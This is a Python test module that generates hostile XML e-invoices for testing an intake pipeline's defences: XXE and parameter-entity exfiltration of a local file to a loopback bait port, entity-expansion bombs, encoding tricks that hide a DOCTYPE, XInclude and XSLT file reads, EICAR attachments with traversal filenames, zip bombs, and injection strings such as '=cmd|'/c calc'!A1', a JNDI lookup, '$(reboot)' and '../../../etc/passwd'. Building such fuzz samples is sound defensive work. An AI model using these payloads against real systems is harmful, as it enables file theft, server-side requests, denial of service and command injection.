"""Hostile XML: a document type, a bomb, an encoding that lies, a file inside that may not be filed, or
an invoice that is none. Every one is built from a valid invoice, so nothing but the attack holds it."""

import base64
import io
import re
import zipfile
from random import Random
from xml.sax.saxutils import escape

from tests.hostile import _zips
from tests.hostile._hostile import EICAR, Bait, damaged, harmful, noise, sample, wrapped

_UBL = ("ubl-invoice.xml", "ubl-credit-note.xml")
_CII = ("cii-invoice.xml", "xrechnung-cii.xml")
_ALL = (*_UBL, *_CII, "zugferd-1.xml")
_DECLARATION = re.compile(rb"^<\?xml[^>]*\?>\s*")
_CAC = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
_CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"


def _bare(document: bytes) -> bytes:
    """Return a document without its XML declaration."""
    return _DECLARATION.sub(b"", document)


def _root(document: bytes) -> bytes:
    """Return the qualified name of the root element."""
    match = re.match(rb"<([\w:]+)", _bare(document))
    assert match
    return match[1]


def _inside(document: bytes, content: bytes) -> bytes:
    """Put `content` right before the end tag of the root."""
    end = document.rindex(b"</")
    return document[:end] + content + document[end:]


def _on_root(document: bytes, attributes: bytes) -> bytes:
    """Put attributes on the root element."""
    declared = _DECLARATION.match(document)
    head = declared[0] if declared else b""
    name = b"<" + _root(document)
    return head + _bare(document).replace(name, name + b" " + attributes, 1)


def _wrong_total(document: bytes) -> bytes:
    """Raise what is to be paid by thousands: such an invoice is held, whatever else is in it."""
    names = b"PayableAmount|GrandTotalAmount|DuePayableAmount|TaxInclusiveAmount"
    return re.sub(rb"(<(?:\w+:)?(?:" + names + rb")[^>]*>)", rb"\g<1>9", document)


def _with_doctype(document: bytes, subset: str, place: bytes = b"") -> bytes:
    """Return `document` with a document type that has an internal `subset`."""
    name = _root(document).decode()
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {name} {subset}>\n'.encode()
    return head + _inside(_bare(document), place)


def _any(rng: Random) -> bytes:
    return sample(rng.choice(_ALL))


def external_entity(rng: Random, bait: Bait) -> bytes:
    """XXE: an entity that stands for a file or an address, used where text is read."""
    url = rng.choice(bait.urls())
    kind = rng.choice((f'SYSTEM "{url}"', f'PUBLIC "-//X//EN" "{url}"'))
    document = _with_doctype(_any(rng), f"[<!ENTITY x {kind}>]")
    text = rng.choice((b"&x;", b"before &x; after"))
    return re.sub(
        rb"(<(?:\w+:)?(?:ID|Name)[^>]*>)[^<]*", rb"\g<1>" + text, document, count=rng.randint(1, 3)
    )


def parameter_entity(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    leak = f"http://127.0.0.1:{bait.port}/?%f;"
    subset = rng.choice(
        (f'[<!ENTITY % p SYSTEM "{url}"> %p;]',
         f'[<!ENTITY % f SYSTEM "file://{bait.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{leak}\'>"> %e; %s;]',
         f'[<!ENTITY % p SYSTEM "{url}"><!ENTITY % q "%p;"> %q;]')
    )  # fmt: skip
    return _with_doctype(_any(rng), subset)


def external_dtd(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    return _with_doctype(
        _any(rng), rng.choice((f'SYSTEM "{url}"', f'PUBLIC "-//OASIS//DTD X//EN" "{url}"'))
    )


def harmless_doctype(rng: Random, bait: Bait) -> bytes:
    """No entity at all: still no invoice has a document type."""
    return _with_doctype(
        _any(rng), rng.choice(("", "[]", "[<!-- nothing -->]", "[<!ELEMENT a ANY>]"))
    )


def unparsed_entity(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    return _with_doctype(
        _any(rng),
        f'[<!NOTATION n SYSTEM "{url}"><!ENTITY u SYSTEM "{url}" NDATA n><!ATTLIST a b ENTITY "u">]',
    )


def laughs(rng: Random, bait: Bait) -> bytes:
    """Entities of entities: 10**9 laughs of some kilobytes."""
    width, levels = rng.randint(5, 20), rng.randint(4, 30)
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, levels)]
    return _with_doctype(_any(rng), f"[{''.join(lines)}]", f"<x>&l{levels - 1};</x>".encode())


def laughs_in_attribute(rng: Random, bait: Bait) -> bytes:
    lines = ['<!ENTITY l0 "ha">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))]
    return _with_doctype(_any(rng), f"[{''.join(lines)}]", b'<x y="&l11;"/>')


def quadratic(rng: Random, bait: Bait) -> bytes:
    size, times = rng.randint(10_000, 60_000), rng.randint(2000, 9000)
    return _with_doctype(
        _any(rng), f'[<!ENTITY q "{"a" * size}">]', b"<x>" + b"&q;" * times + b"</x>"
    )


def recursive_entity(rng: Random, bait: Bait) -> bytes:
    return _with_doctype(_any(rng), '[<!ENTITY a "&b;"><!ENTITY b "&a;">]', b"<x>&a;</x>")


def parameter_laughs(rng: Random, bait: Bait) -> bytes:
    lines = ['<!ENTITY % p0 "<!-- a -->">']
    lines += [f'<!ENTITY % p{n} "{f"&#37;p{n - 1};" * 10}">' for n in range(1, 12)]
    return _with_doctype(_any(rng), f"[{''.join(lines)} %p11;]")


def doctype_in_disguise(rng: Random, bait: Bait) -> bytes:
    """The document type in an encoding in which a filter for `<!DOCTYPE` does not see it."""
    encoding = rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-7", "cp037", "utf-32", "cp500"))
    text = external_entity(rng, bait).decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
    if encoding == "utf-7":
        text = text.replace("<!DOCTYPE", "+ADwAIQ-DOCTYPE").replace("<!ENTITY", "+ADwAIQ-ENTITY")
        return text.encode("ascii", "ignore")
    return text.encode(encoding, "ignore")


def doctype_behind(rng: Random, bait: Bait) -> bytes:
    """The document type behind comments, instructions and white space of many kilobytes."""
    document = external_dtd(rng, bait)
    before = rng.choice((b"<!-- x -->", b"<?a b?>", b"\n\t ", b"<!-- <a xmlns='u'/> -->"))
    return document.replace(b"<!DOCTYPE", before * rng.randint(1, 9000) + b"<!DOCTYPE", 1)


def xinclude(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    how = rng.choice(('parse="text"', 'parse="xml"', 'xpointer="xpointer(/*)"'))
    tag = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" {how}/>'
    return _inside(_wrong_total(sample(rng.choice(_UBL + _CII))), tag.encode())


def schema_location(rng: Random, bait: Bait) -> bytes:
    """The addresses of schemas are hints that nobody may follow; the invoice itself is wrong."""
    url = rng.choice(bait.urls())
    name = rng.choice(("schemaLocation", "noNamespaceSchemaLocation"))
    value = f"urn:x {url}" if name == "schemaLocation" else url
    attribute = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:{name}="{value}"'
    return _on_root(_wrong_total(sample(rng.choice(_UBL + _CII))), attribute.encode())


def stylesheet(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    document = _wrong_total(sample(rng.choice(_UBL + _CII)))
    link = f'<?xml-stylesheet type="text/xsl" href="{url}"?>'.encode()
    model = f'<?xml-model href="{url}"?>'.encode()
    return b'<?xml version="1.0"?>\n' + rng.choice((link, model, link + model)) + _bare(document)


def transformation(rng: Random, bait: Bait) -> bytes:
    """A stylesheet that reads files, called an invoice."""
    url = rng.choice(bait.urls())
    call = rng.choice((f"document('{url}')", f"unparsed-text('{url}')", f"doc('{url}')"))
    return (
        '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:import href="{url}"/><xsl:template match="/"><xsl:copy-of select="{call}"/>'
        f'<xsl:result-document href="{bait.file}.out">x</xsl:result-document>'
        "</xsl:template></xsl:stylesheet>"
    ).encode()


def deep(rng: Random, bait: Bait) -> bytes:
    depth = rng.choice((300, 2100, 5000, 50_000))
    return _inside(_any(rng), b"<a>" * depth + b"</a>" * depth)


def many_attributes(rng: Random, bait: Bait) -> bytes:
    names = " ".join(f'a{n}="{rng.randrange(99)}"' for n in range(rng.randint(2000, 20_000)))
    return _inside(_any(rng), f"<a {names}/>".encode())


def many_namespaces(rng: Random, bait: Bait) -> bytes:
    names = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(rng.randint(500, 5000)))
    return _inside(_any(rng), f"<a {names}><b/></a>".encode())


def long_name(rng: Random, bait: Bait) -> bytes:
    name = b"n" * rng.randint(60_000, 300_000)
    return _inside(_any(rng), b"<" + name + b"/>")


def twice_an_attribute(rng: Random, bait: Bait) -> bytes:
    return _on_root(
        _any(rng), rng.choice((b'a="1" a="2"', b'xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"'))
    )


def not_well_formed(rng: Random, bait: Bait) -> bytes:
    wound = rng.choice(
        (b"<a></b>", b"<a", b"&undefined;", b"]]>", b"&#0;", b"&#xFFFF;", b"&#x1B;[2J", b"<p:a/>",
         b"\x1b[31m", b"\0", b"\x07", b"<!-- -- -->", b"<?xml version='1.0'?>", b"<![CDATA[", b"<a b=c/>",
         b"&", b"<a b='<'/>", b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80")
    )  # fmt: skip
    return _inside(_any(rng), wound)


def cut(rng: Random, bait: Bait) -> bytes:
    document = _any(rng)
    return document[: rng.randint(60, document.rindex(b"</"))]


def behind_the_end(rng: Random, bait: Bait) -> bytes:
    document = _any(rng)
    return document + rng.choice(
        (b"x", b"<a/>", _bare(document), b"\0\0", noise(rng, 40), b"PK\3\4", EICAR)
    )


def before_the_start(rng: Random, bait: Bait) -> bytes:
    junk = rng.choice(
        (
            b"x",
            b"\0",
            EICAR + b"\n",
            b"<a/>",
            b"\xef\xbb\xbf\xef\xbb\xbf\xef\xbb\xbfx",
            noise(rng, 9),
        )
    )
    return junk + _any(rng)


def encoding_lie(rng: Random, bait: Bait) -> bytes:
    """The declaration says one encoding, the octets are another, and neither is readable as it is."""
    body = _bare(_any(rng)).decode()
    said, true = rng.choice(
        (("UTF-8", "cp037"), ("UTF-16", "utf-8"), ("x-unknown", "utf-8"),
         ("UTF-32", "utf-8"), ("us-ascii", "utf-32"), ("hex", "utf-8"), ("unicode_escape", "utf-8"))
    )  # fmt: skip
    return f'<?xml version="1.0" encoding="{said}"?>{body}'.encode(true, "replace")


def wrong_mark(rng: Random, bait: Bait) -> bytes:
    """A byte order mark of another encoding than the octets'."""
    body = _bare(_any(rng))
    mark = rng.choice((b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\0\0\xfe\xff"))
    return mark + body + (b" " if len(body) % 2 else b"")


def invalid_octets(rng: Random, bait: Bait) -> bytes:
    document = _any(rng)
    bad = rng.choice((b"\xff", b"\xc0\xaf", b"\xe9t\xe9", b"\xf5\x80\x80\x80", b"\xed\xbf\xbf"))
    return re.sub(rb"(<(?:\w+:)?Name>)", lambda found: found[1] + bad, document, count=1)


def _supporting(name: str, content: bytes, mime: str, encoded: bytes | None = None) -> bytes:
    """Return BG-24 of UBL with an embedded file."""
    data = base64.b64encode(content) if encoded is None else encoded
    return (
        f'<cac:AdditionalDocumentReference xmlns:cac="{_CAC}" xmlns:cbc="{_CBC}"><cbc:ID>1</cbc:ID>'
        f'<cac:Attachment><cbc:EmbeddedDocumentBinaryObject mimeCode="{mime}" filename="{escape(name)}">'
    ).encode() + data + (
        b"</cbc:EmbeddedDocumentBinaryObject></cac:Attachment></cac:AdditionalDocumentReference>"
    )  # fmt: skip


def _with_file(name: str, content: bytes, mime: str, encoded: bytes | None = None) -> bytes:
    document = sample("ubl-invoice.xml")
    at = document.index(b"<cac:AccountingSupplierParty")
    return document[:at] + _supporting(name, content, mime, encoded) + document[at:]


def embedded_malware(rng: Random, bait: Bait) -> bytes:
    name = rng.choice(("annexe.pdf", "../../etc/cron.d/x", "a.csv", "a\u202efdp.exe"))
    content, _ = rng.choice(
        ((EICAR, 0), (_zips.eicar(rng, bait), 0), (_zips.eicar_in_zips(rng, bait), 0))
    )
    return _with_file(name, content, rng.choice(("application/pdf", "text/csv", "image/png")))


def embedded_program(rng: Random, bait: Bait) -> bytes:
    name, content = harmful(rng)
    return _with_file(name, content, rng.choice(("application/pdf", "image/jpeg")))


def embedded_archive(rng: Random, bait: Bait) -> bytes:
    shape = rng.choice(
        (
            _zips.ratio_bomb,
            _zips.overlap_same_file,
            _zips.symlink,
            _zips.encrypted,
            _zips.many_levels,
        )
    )
    return _with_file("annexes.zip", shape(rng, bait), "application/zip")


def embedded_page(rng: Random, bait: Bait) -> bytes:
    from tests.hostile import _pdfs

    return _with_file("annexe.pdf", _pdfs.javascript(rng, bait), "application/pdf")


def embedded_base64(rng: Random, bait: Bait) -> bytes:
    """What BG-24 carries is malware in base64 that some readers decode and others refuse."""
    data = base64.b64encode(EICAR)
    encoded = rng.choice(
        (data.rstrip(b"="), data.replace(b"Q", b"Q \n", 5), data + b"====", b"".join(b"%c\n" % c for c in data),
         b"\n\n" + data)
    )  # fmt: skip
    return _with_file("annexe.pdf", EICAR, "application/pdf", encoded)


def embedded_in_cii(rng: Random, bait: Bait) -> bytes:
    """The same for CII: the octets stand in a reference of the agreement."""
    name, content = harmful(rng)
    document = sample("cii-invoice.xml")
    reference = (
        b"<ram:AdditionalReferencedDocument><ram:IssuerAssignedID>1</ram:IssuerAssignedID>"
        b"<ram:TypeCode>916</ram:TypeCode>"
        b'<ram:AttachmentBinaryObject mimeCode="application/pdf" filename="'
        + escape(name).encode() + b'">' + base64.b64encode(content)
        + b"</ram:AttachmentBinaryObject></ram:AdditionalReferencedDocument>"
    )  # fmt: skip
    return document.replace(
        b"</ram:ApplicableHeaderTradeAgreement>",
        reference + b"</ram:ApplicableHeaderTradeAgreement>",
    )


def injection(rng: Random, bait: Bait) -> bytes:
    """Text that is a command for a terminal, a spreadsheet, a database or a browser, in an invoice that
    does not add up."""
    text = rng.choice(
        ("=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\")", "'); DROP TABLE invoices;--", "<script>alert(1)</script>",
         "${jndi:ldap://" + bait.host + "/a}", "{{7*7}}", "%s%s%n", "../../../etc/passwd", "\u202egpj.exe", "\u2066x",
         "\u0085\u009b31m", "$(reboot)", "`id`", "@SUM(1)", "a" * 40_000, "\u0300" * 500)
    )  # fmt: skip
    document = _wrong_total(sample(rng.choice(_UBL + _CII)))
    return re.sub(
        rb"(<(?:\w+:)?(?:Name|RegistrationName|ID)>)[^<]*",
        lambda m: m[1] + escape(text).encode(),
        document,
        count=rng.randint(1, 6),
    )


def wrong_sum(rng: Random, bait: Bait) -> bytes:
    return _wrong_total(sample(rng.choice(_UBL + _CII)))


def wrong_number(rng: Random, bait: Bait) -> bytes:
    """Amounts that are no amounts, dates that are no dates."""
    value = rng.choice(
        (
            b"NaN",
            b"1e9",
            b"Infinity",
            b"0x10",
            b"1,00",
            b"",
            b"--1",
            b"9" * 5000,
            b"\xd9\xa1\xd9\xa2",
        )
    )
    name = rb"PayableAmount|DuePayableAmount|GrandTotalAmount|TaxInclusiveAmount"
    document = sample(rng.choice(_UBL + _CII))
    return re.sub(rb"(<(?:\w+:)?(?:" + name + rb")[^>]*>)[^<]*", lambda m: m[1] + value, document)


def other_recipient(rng: Random, bait: Bait) -> bytes:
    return sample("ubl-wrong-recipient.xml")


def incomplete(rng: Random, bait: Bait) -> bytes:
    return sample(
        rng.choice(("ubl-missing-fields.xml", "ubl-out-of-schema.xml", "ubl-wrong-total.xml"))
    )


def no_invoice(rng: Random, bait: Bait) -> bytes:
    """XML that is no invoice: orders, feeds, pages and drawings with scripts, a national format."""
    made = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script src="http://x"/></html>',
        b'<?xml version="1.0"?><project><target name="x"><exec executable="sh"/></target></project>',
        b'<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/"/>',
    )
    known = [sample(name) for name in ("ubl-order.xml", "feed.xml", "fatturapa.xml")]
    return rng.choice((*made, *known))


def other_namespace(rng: Random, bait: Bait) -> bytes:
    return re.sub(rb"urn:(oasis|un|ferd):", b"urn:evil:", _any(rng))


def many_lines(rng: Random, bait: Bait) -> bytes:
    """The lines of an invoice, some thousand times: they do not add up."""
    document = sample("ubl-invoice.xml")
    line = document[
        document.index(b"<cac:InvoiceLine>") : document.rindex(b"</cac:InvoiceLine>") + 18
    ]
    return document.replace(line, line * rng.randint(500, 2000))


def huge_text(rng: Random, bait: Bait) -> bytes:
    """Text of more megabytes than the parser takes, in a document that is not well-formed either."""
    size = rng.randint(11, 20) << 20
    return _inside(
        _any(rng), rng.choice((b"<a>" + b"x" * size + b"</a>", b'<a b="' + b"x" * size + b'"/>'))
    )


def million_elements(rng: Random, bait: Bait) -> bytes:
    return _inside(_any(rng), b"<a/>" * rng.randint(200_000, 1_000_000))


def huge_annex(rng: Random, bait: Bait) -> bytes:
    """A compressed megabyte bomb in BG-24."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("a.csv", (2026, 1, 1, 0, 0, 0)), bytes(rng.randint(60, 120) << 20), 8
        )
    return _with_file("annexe.zip", buffer.getvalue(), "application/zip")


SHAPES = (
    external_entity, parameter_entity, external_dtd, harmless_doctype, unparsed_entity, laughs,
    laughs_in_attribute, quadratic, recursive_entity, parameter_laughs, doctype_in_disguise,
    doctype_behind, xinclude, schema_location, stylesheet, transformation, deep, many_attributes,
    many_namespaces, long_name, twice_an_attribute, not_well_formed, cut, behind_the_end,
    before_the_start, encoding_lie, wrong_mark, invalid_octets, embedded_malware, embedded_program,
    embedded_archive, embedded_page, embedded_base64, embedded_in_cii, injection, wrong_sum,
    wrong_number, other_recipient, incomplete, no_invoice, other_namespace,
)  # fmt: skip
HEAVY = (huge_text, million_elements, huge_annex, many_lines)


def damaged_xml(rng: Random, bait: Bait) -> bytes:
    return damaged(rng, _any(rng))


DAMAGED = (damaged_xml,)


def mail(rng: Random, content: bytes) -> bytes:
    """Return the mail that brings an XML file, as software labels them."""
    kind = rng.choice(("application/xml", "text/xml", "application/octet-stream"))
    return wrapped(rng, rng.choice(("facture.xml", "INVOICE.XML", "factur-x.xml")), content, kind)
